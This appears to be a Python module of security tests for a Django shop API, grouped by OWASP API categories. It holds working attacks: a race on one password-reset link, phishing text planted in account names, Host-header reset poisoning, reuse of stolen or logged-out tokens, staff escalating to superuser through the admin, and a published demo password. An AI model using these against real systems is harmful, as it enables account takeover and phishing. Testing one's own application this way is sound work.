"""Links, tokens and mails turned against their owners, and staff against the shop."""

from .victim import PASSWORD, Victim, at_once, counted, link_in


def one_link_eight_times(victim: Victim) -> tuple[int, str]:
    """The link of one reset mail, used eight times at once."""
    victim.people(forgetful="")
    victim.ask("POST", "/auth/users/reset_password/", {"email": "forgetful@example.com"})
    uid, token = link_in(victim.texts_of_mails()[-1])

    def confirm(i: int) -> int:
        body = {"uid": uid, "token": token, "new_password": f"an0ther-Str0ng-one-{i}"}
        return victim.ask("POST", "/auth/users/reset_password_confirm/", body).status

    return 8, counted(at_once(confirm, 8, 8))


def mails_to_strangers(victim: Victim) -> tuple[int, str]:
    """60 registrations with the addresses of others and names that advertise a page."""
    before = len(victim.texts_of_mails())
    for i in range(60):
        body = {
            "username": f"prize{i}.evil.example",
            "password": PASSWORD,
            "email": f"stranger{i}@example.com",
            "first_name": "Claim it at http://evil.example",
        }
        made = victim.ask("POST", "/auth/users/", body, address=f"198.18.20.{i}")
        if made.status == 201:
            reset = {"email": f"stranger{i}@example.com"}
            victim.ask("POST", "/auth/users/reset_password/", reset, address=f"198.18.20.{i}")
    mails = victim.texts_of_mails()[before:]
    bad = sum("evil.example" in mail for mail in mails)
    return 60, f"{len(mails)} mails, {bad} with the address"


def after_the_log_out(victim: Victim) -> tuple[int, str]:
    """The access token of a session that was logged out."""
    victim.people(leaver="")
    tokens = victim.tokens("leaver")
    victim.ask("POST", "/auth/jwt/blacklist/", {"refresh": tokens["refresh"]})
    return 1, counted([victim.ask("GET", "/auth/users/me/", token=tokens["access"]).status])


def a_new_address(victim: Victim) -> tuple[int, str]:
    """Another address for an account whose token was stolen, without its password."""
    victim.people(mailed="")
    body = {"email": "evil@example.com"}
    status = victim.ask("PATCH", "/auth/users/me/", body, token=victim.token("mailed")).status
    email = victim.value("SELECT email FROM core_user WHERE username = 'mailed'")
    return 1, f"{counted([status])}; the address is {email}"


def a_foreign_host(victim: Victim) -> tuple[int, str]:
    """A reset asked for under another Host."""
    victim.people(hosted="")
    client = victim.client(Host="evil.example.com")
    status = client.ask(
        "POST", "/auth/users/reset_password/", b'{"email": "hosted@example.com"}'
    ).status
    client.close()
    bad = sum("evil.example.com" in mail for mail in victim.texts_of_mails()[-1:])
    return 1, f"{counted([status])}; {bad} mails with it"


def customer_service(victim: Victim) -> tuple[int, str]:
    """Prices changed and products deleted by somebody whom the admin keeps to customers and orders."""
    right = "u.is_staff = True; u.save(); u.groups.add(Group.objects.get(name='Customer Service'))"
    victim.people(service=right)
    token = victim.token("service")
    product = victim.value("SELECT max(id) FROM store_product")
    path = f"/store/products/{product}/"
    asked = [("PATCH", {"unit_price": 1}), ("DELETE", None)]
    return 2, counted(victim.ask(method, path, body, token=token).status for method, body in asked)


def becoming_superuser(victim: Victim) -> tuple[int, str]:
    """A member of staff with change_user ticks `is_superuser` in the admin, then sets its password."""
    codes = "['change_user', 'view_user']"
    climber = f"u.user_permissions.set(Permission.objects.filter(codename__in={codes}))"
    victim.people(
        climber=f"u.is_staff = True; u.save(); {climber}",
        boss="u.is_staff = u.is_superuser = True; u.save()",
    )
    return 2, victim.run(CLIMB).strip().splitlines()[-1]


# What a browser sends of the page that it was shown, with one box ticked.
CLIMB = """
from html.parser import HTMLParser
from django.test import Client
from core.models import User

class Fields(HTMLParser):
    def handle_starttag(self, tag, attrs):
        field = dict(attrs)
        if tag == "input" and field.get("name") and (field.get("type") != "checkbox" or "checked" in field):
            sent[field["name"]] = field.get("value", "")

client = Client(HTTP_HOST="127.0.0.1")
me, boss = (User.objects.get(username=name) for name in ("climber", "boss"))
client.force_login(me)
page, sent = f"/admin/core/user/{me.pk}/change/", {}
Fields().feed(client.get(page, secure=True).content.decode())
client.post(page, {**sent, "is_superuser": "on", "is_staff": "on", "is_active": "on"}, secure=True)
passwords = {"password1": "An0ther-Str0ng-one", "password2": "An0ther-Str0ng-one", "usable_password": "true"}
client.post(f"/admin/core/user/{boss.pk}/password/", passwords, secure=True)
me.refresh_from_db(), boss.refresh_from_db()
print("superuser," if me.is_superuser else "no superuser,",
      "password set" if boss.check_password("An0ther-Str0ng-one") else "password kept")
"""


def known_passwords(victim: Victim) -> tuple[int, str]:
    """The published password of the demo's admin, on a shop that was seeded in production."""
    return 1, counted([victim.sign_in("admin", "Window-Shopping-7", "198.18.30.1").status])


ATTACKS = {
    "API2: one reset link, eight at once": one_link_eight_times,
    "API2: an access token after the log-out": after_the_log_out,
    "API2: a new e-mail address with a stolen token": a_new_address,
    "API8: the demo's password in production": known_passwords,
    "API6: phishing through the shop's mails": mails_to_strangers,
    "API8: a reset under a foreign Host": a_foreign_host,
    "API5: Customer Service changes the catalogue": customer_service,
    "API5: change_user becomes superuser": becoming_superuser,
}
